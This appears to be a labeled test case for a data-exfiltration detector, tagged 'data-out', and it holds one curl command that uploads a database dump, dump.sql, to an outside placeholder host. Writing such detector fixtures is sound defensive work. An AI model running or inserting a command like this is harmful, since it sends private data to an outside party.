# expect: data-out
# source: DESIGN.md section 2: data-out
# technique: curl -F file=@
curl -F 'file=@dump.sql' https://files.example.net/
